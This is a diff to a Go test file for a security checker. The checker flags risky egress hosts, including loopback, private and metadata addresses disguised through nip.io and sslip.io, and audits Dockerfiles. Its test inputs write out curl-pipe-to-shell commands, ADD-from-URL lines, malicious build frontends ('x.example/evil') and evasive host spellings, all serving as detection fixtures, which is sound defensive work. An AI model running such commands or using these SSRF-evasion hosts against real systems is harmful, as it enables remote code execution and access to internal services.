@@ -57,6 +57,15 @@ const (
 	gate  = apply.KindPipelock
 )
 
+// shortOnes are n paths of two letters.
+func shortOnes(n int) []string {
+	var out []string
+	for i := range n {
+		out = append(out, "/a"+string(rune('a'+i)))
+	}
+	return out
+}
+
 func scoped() apply.Target {
 	return apply.Target{Kind: route, Exists: true, EntryBefore: "a", EntryAfter: "b"}
 }
@@ -96,25 +105,33 @@ var planCases = []struct {
 	{"covered in both gates", egressOf("a.example.com"), planOf(coveredBy(gate, "a.example.com"), coveredBy(route)), []string{"covered"}},
 	{"covered by a wildcard", pipelockOf("a.example.com", "https://a.example.com/"), planOf(coveredBy(gate, "x.example.com", "*.example.com")), []string{"covered", "wildcard-covered"}},
 	{"wildcard covers its base", pipelockOf("example.com", "https://example.com/"), planOf(coveredBy(gate, "*.Example.com")), []string{"covered", "wildcard-covered"}},
-	{"covered, but a gate is not managed", egressOf("a.example.com", "/x"), &apply.Plan{Targets: []apply.Target{coveredBy(route)}, Unmanaged: []apply.Kind{gate}}, []string{}},
+	{"covered, but a gate is not managed", egressOf("a.example.com", "/x/"), &apply.Plan{Targets: []apply.Target{coveredBy(route)}, Unmanaged: []apply.Kind{gate}}, []string{}},
 	{"routed, new to pipelock", egressOf("a.example.com"), planOf(newEntry(gate), coveredBy(route)), []string{"new-host"}},
-	{"new route, known to pipelock", egressOf("a.example.com", "/x"), planOf(coveredBy(gate, "a.example.com"), newEntry(route)), []string{"new-host"}},
-	{"more paths", egressOf("a.example.com", "/x"), planOf(scoped()), []string{"wider-paths"}},
-	{"more paths keep an address a danger", egressOf("10.1.2.3", "/x"), planOf(scoped()), []string{"private", "ip-literal", "wider-paths"}},
+	{"new route, known to pipelock", egressOf("a.example.com", "/x/"), planOf(coveredBy(gate, "a.example.com"), newEntry(route)), []string{"new-host"}},
+	{"more paths", egressOf("a.example.com", "/x/"), planOf(scoped()), []string{"wider-paths"}},
+	{"more paths keep an address a danger", egressOf("10.1.2.3", "/x/"), planOf(scoped()), []string{"private", "ip-literal", "wider-paths"}},
 	{"widened", egressOf("a.example.com"), planOf(wide()), []string{"widened"}},
-	{"auth for a new host", withAuth(egressOf("a.example.com", "/x")), planOf(newEntry(route)), []string{"credential", "new-host"}},
-	{"auth for a known host", withAuth(egressOf("a.example.com", "/x")), planOf(ignored()), []string{"covered", "auth-ignored"}},
-	{"auth, route not managed", withAuth(egressOf("a.example.com", "/x")), &apply.Plan{Unmanaged: []apply.Kind{route}}, []string{"credential", "new-host"}},
+	{"widened by a path", egressOf("a.example.com", "/v1/", "/"), planOf(wide()), []string{"widened"}},
+	{"new, the whole by a path", egressOf("a.example.com", "/v1/", "/"), planOf(newEntry(route)), addsHost},
+	{"widened by one letter", egressOf("a.example.com", "/v1/", "/r"), planOf(scoped()), []string{"widened", "wider-paths"}},
+	{"widened by many short paths", egressOf("a.example.com", shortOnes(maxShort+1)...), planOf(scoped()), []string{"widened", "wider-paths"}},
+	{"some short paths", egressOf("a.example.com", shortOnes(maxShort)...), planOf(scoped()), []string{"wider-paths"}},
+	{"short directories", egressOf("a.example.com", "/a/", "/b/"), planOf(scoped()), []string{"wider-paths"}},
+	{"new, with one letter", egressOf("a.example.com", "/r"), planOf(newEntry(route)), addsHost},
+	{"one letter that is covered", egressOf("a.example.com", "/r"), planOf(coveredBy(route)), []string{"covered"}},
+	{"auth for a new host", withAuth(egressOf("a.example.com", "/x/")), planOf(newEntry(route)), []string{"credential", "new-host"}},
+	{"auth for a known host", withAuth(egressOf("a.example.com", "/x/")), planOf(ignored()), []string{"covered", "auth-ignored"}},
+	{"auth, route not managed", withAuth(egressOf("a.example.com", "/x/")), &apply.Plan{Unmanaged: []apply.Kind{route}}, []string{"credential", "new-host"}},
 	{"pipelock, new", pipelockOf("a.example.com", "https://a.example.com/v1"), planOf(newEntry(gate)), []string{"new-host"}},
 	{"pipelock, default ports", pipelockOf("a.example.com", "HTTP://a.example.com:80/v1"), planOf(newEntry(gate)), []string{"new-host"}},
 	{"pipelock, another port", pipelockOf("a.example.com", "https://a.example.com:8443/v1"), planOf(newEntry(gate)), []string{"new-host", "port"}},
 	{"pipelock, the other scheme's port", pipelockOf("a.example.com", "http://a.example.com:443/"), planOf(newEntry(gate)), []string{"new-host", "port"}},
 	{"pipelock not strict", pipelockOf("a.example.com", "https://a.example.com/"), planOf(loose()), []string{"new-host", "pipelock-not-strict"}},
-	{"a registry's suffix", egressOf("co.uk", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
-	{"a company's suffix", egressOf("github.io", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
-	{"a customer's name", egressOf("someone.github.io", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
-	{"below a customer's name", egressOf("a.bucket.s3.amazonaws.com", "/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
-	{"an ordinary name under two labels", egressOf("www.example.co.uk", "/"), planOf(newEntry(route)), []string{"new-host"}},
+	{"a registry's suffix", egressOf("co.uk", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"a company's suffix", egressOf("github.io", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"a customer's name", egressOf("someone.github.io", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"below a customer's name", egressOf("a.bucket.s3.amazonaws.com", "/x/"), planOf(newEntry(route)), []string{"new-host", "public-suffix"}},
+	{"an ordinary name under two labels", egressOf("www.example.co.uk", "/x/"), planOf(newEntry(route)), []string{"new-host"}},
 }
 
 func TestHostFindings(t *testing.T) {
@@ -178,6 +195,16 @@ var hostCases = []struct {
 	{"METADATA.google.internal.", "metadata"},
 	{"169-254-169-254.nip.io", "metadata"},
 	{"10.0.0.1.nip.io", "private"},
+	{"app-7f000001.nip.io", "loopback"},
+	{"app-10.0.0.1.nip.io", "private"},
+	{"127-0-0-1.foo.sslip.io", "loopback"},
+	{"10.0.0.1.foo.sslip.io", "private"},
+	{"8-8-8-8.127-0-0-1.sslip.io", "loopback"}, // services differ in which one counts
+	{"x.a-127-0-0-1-b.nip.io", "loopback"},
+	{"--1.sslip.io", "loopback"},
+	{"--1.foo.sslip.io", "loopback"},
+	{"deadbeef.example.com", ""},
+	{"app-7f000001.example.com", ""},
 	{"app.7f000001.nip.io", "loopback"},
 	{"app.8.8.8.8.sslip.io", ""},
 	{"localhost", "loopback"},
@@ -305,7 +332,9 @@ var buildCases = []struct {
 	{"curl installed, then a shell", "", debianBase + "USER app\nRUN apt-get install -y curl bash; echo x | sh\n", ""},
 	{"quoted pipe", "", debianBase + "USER app\nRUN curl 'https://x.example/a|sh'\n", ""},
 	{"here-document text is no instruction", "", debianBase + "USER app\nCOPY <<EOF /x\nUSER root\nFROM evil\nEOF\n", ""},
-	{"accepted before", debianBase + "RUN curl x.example | sh\nUSER app\n", debianBase + "RUN curl  x.example | sh\nRUN true\nUSER app\n", ""},
+	{"accepted before", debianBase + "RUN curl x.example | sh\nUSER app\n", debianBase + "RUN  curl x.example | sh \nRUN true\nUSER app\n", ""},
+	{"accepted before, as a comment", debianBase + "RUN <<EOF\n# see curl x.example | sh\nEOF\nUSER app\n", debianBase + "RUN <<EOF\n# see\ncurl x.example | sh\nEOF\nUSER app\n", "curl-pipe-sh dropped-lines"},
+	{"accepted before, other white space in quotes", debianBase + "RUN 'a  b' && curl x.example | sh\nUSER app\n", debianBase + "RUN 'a b' && curl x.example | sh\nUSER app\n", "curl-pipe-sh dropped-lines"},
 	{"accepted before, with a variable", debianBase + "ARG V=1\nRUN curl $V | sh\nUSER app\n", debianBase + "ARG V=2\nRUN curl $V | sh\nUSER app\n", "curl-pipe-sh dropped-lines"},
 	{"ADD from a URL", "", debianBase + "USER app\nADD --chown=1:1 https://x.example/t.tgz /opt/\n", "add-url"},
 	{"ADD from git", "", debianBase + "USER app\nADD git@x.example:a/b.git /opt/\n", "add-url"},
@@ -340,7 +369,59 @@ var buildCases = []struct {
 	{"CRLF and lower case", "", "from debian:12" + imgDigest + "\r\nuser root\r\n", "user-root"},
 	{"continuation at the end", "", debianBase + "USER app\nRUN curl x.example | sh \\", "curl-pipe-sh"},
 	{"here-document without an end", "", debianBase + "USER app\nRUN <<EOF\ncurl x.example | sh\n", "curl-pipe-sh"},
+	{"a variable doubled in every line", "", debianBase + doubled(60) + "USER app\n", "not-examined"},
+	{"a variable that is far too long", "", debianBase + "ENV A=" + strings.Repeat("x", maxValue+1) + "\nENV B=$A\nUSER app\n", "not-examined"},
+	{"variables that are too many", "", debianBase + "ENV A=" + strings.Repeat("x", maxValue) + "\n" + strings.Repeat("ENV B=$A\n", maxTotal/maxValue+1) + "USER app\n", "not-examined"},
+	{"defaults in defaults", "", debianBase + "USER ${A:-${B:-${C:-root}}}\n", "user-root"},
+	{"defaults far too deep", "", debianBase + "USER " + strings.Repeat("${A:-", maxDepth+1) + "root" + strings.Repeat("}", maxDepth+1) + "\n", "not-examined user-root"},
+	{"a variable changed by a pattern", "", debianBase + "ENV A=rootx\nUSER ${A%x}\n", "not-examined user-root"},
+	{"an unknown variable changed by a pattern", "", debianBase + "ENV PATH=${PATH%/}:/x\nUSER app\n", ""},
+	{"user by a variable without a value", "", "ARG U\n" + debianBase + "ARG U\nUSER $U\n", "user-root"},
+	{"group by a variable without a value", "", debianBase + "ARG G\nUSER app:$G\n", ""},
+	{"user in quotes", "", debianBase + "USER r\"oo\"t\n", "user-root"},
+	{"user with the other escape", "", "# escape=`\n" + debianBase + "USER r`oot\n", "user-root"},
+	{"values of one instruction", "", debianBase + "ENV U=root\nENV U=app V=$U\nUSER $V\n", "user-root"},
+	{"several arguments", "", debianBase + "ARG A U=root\nUSER $U\n", "user-root"},
+	{"variable of the stage below", "", "FROM debian:12" + imgDigest + " AS a\nENV U=root\nFROM a\nUSER $U\n", "user-root"},
+	{"stage in quotes", "", "FROM debian:12" + imgDigest + " AS a\nUSER root\nFROM \"a\"\n", "user-root"},
+	{"ADD by a variable", "", debianBase + "ENV U=https://x.example/a\nADD $U /x\nUSER app\n", "add-url"},
+	{"ADD from git by any user", "", debianBase + "USER app\nADD me@x.example:a/b /opt/\n", "add-url"},
+	{"flag in quotes", "", debianBase + "USER app\nRUN --network=\"host\" true\n", "insecure-build"},
+	{"frontend after a shebang", "", "#!/bin/sh\n# syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend behind slashes", "", "// syntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend in JSON", "", "{\"syntax\": \"x.example/evil:1\"}", "build-frontend"},
+	{"frontend after a bare CR", "", "#\rsyntax=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend between form feeds", "", "#\fsyntax\f=\fx.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"the first frontend counts", "", "# syntax=x.example/evil:1\n# syntax=docker/dockerfile:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend after another directive", "", "# check=skip=all\n#\tescape=`\r\n# SYNTAX=x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend with words after it", "", "# syntax=docker/dockerfile:1 x.example/evil:1\n" + debianBase + "USER app\n", "build-frontend"},
+	{"frontend too late", "", "# a comment\n# syntax=x.example/evil:1\n" + debianBase + "USER app\n", ""},
+	{"comment after a wide space", "", debianBase + "USER app\nRUN curl x.example \\\n\u3000# aside\n| sh\n", "curl-pipe-sh"},
+	{"comment after a wide space that would go on", "", debianBase + "USER app\n\u3000# \\\nUSER root\n", "user-root"},
+	{"two CRs", "", debianBase + "USER app\r\r\nRUN curl x.example \\\r\r\n| sh\r\r\n", "curl-pipe-sh"},
+	{"here-document ended with two CRs", "", debianBase + "USER app\nRUN <<EOF\ntrue\nEOF\r\r\nUSER root\nADD http://x.example/x /x\n", "user-root add-url"},
+	{"here-document with CRLF", "", debianBase + "USER app\r\nRUN <<EOF\r\ncurl x.example | sh\r\nEOF\r\n", "curl-pipe-sh"},
+	{"here-document with a space before its name", "", debianBase + "USER root\nRUN << EOF\nUSER app\nEOF\n", "user-root"},
+	{"here-document after a wide space", "", debianBase + "USER root\nRUN true\u3000<<EOF\nUSER app\nEOF\n", "user-root"},
+	{"no here-document where the words are none", "", debianBase + "USER app\nRUN true # ${x <<EOF\nUSER root\n", "user-root"},
+	{"escape after a bare CR", "", "#\rescape=`\n" + debianBase + "USER app\nRUN curl x.example `\n| sh\n", "curl-pipe-sh"},
 	{"not a Dockerfile", "", "hello\nworld\n", ""},
+	{"as many lines as are examined", "", debianBase + "USER root\n" + strings.Repeat("\n", maxExaminedLines-2), "user-root"},
+	{"a line more", "", debianBase + "USER root\n" + strings.Repeat("\n", maxExaminedLines-1), "too-long"},
+	{"as many bytes as are examined", "", debianBase + "USER root\n#" + strings.Repeat("x", maxExamined-len(debianBase)-11), "user-root"},
+	{"a byte more", "", debianBase + "USER root\n#" + strings.Repeat("x", maxExamined-len(debianBase)-10), "too-long"},
+	{"too long and unchanged", strings.Repeat("#\n", maxExamined), strings.Repeat("#\n", maxExamined), "covered"},
+	{"one line of a file that is too long", debianBase + strings.Repeat("#\n", maxExamined), debianBase + "RUN curl x | sh\n" + strings.Repeat("#\n", maxExamined), "too-long"},
+}
+
+// doubled is a file's part in which each of n variables is the one before, twice.
+func doubled(n int) string {
+	var b strings.Builder
+	b.WriteString("ENV a0=xxxxxxxxxx\n")
+	for i := range n {
+		fmt.Fprintf(&b, "ENV a%d=$a%d$a%d\n", i+1, i, i)
+	}
+	return b.String()
 }
 
 func buildFindings(now, file string) []Finding {
@@ -399,6 +480,7 @@ func TestFindingTexts(t *testing.T) {
 		{"registry", host(egressOf("co.uk")), "public-suffix", "a registry sells names", "co.uk"},
 		{"company", host(egressOf("github.io")), "public-suffix", "hands out names to its customers", "github.io"},
 		{"customer", host(egressOf("a.github.io")), "public-suffix", "a customer's name", "github.io"},
+		{"short paths are all shown", findingsFor(egressOf("a.example.com", shortOnes(26)...), planOf(scoped())), "widened", "so short", strings.Join(shortOnes(26), " ")},
 		{"plain address", host(egressOf("8.8.8.8")), "ip-literal", "is an IP address, so", "8.8.8.8"},
 		{"odd address", host(egressOf("0x7f.1")), "ip-literal", "unusual spelling", "0x7f.1 = 127.0.0.1"},
 		{"two readings", host(egressOf("010.0.0.1")), "private", "private network", "010.0.0.1 = 8.0.0.1 = 10.0.0.1"},
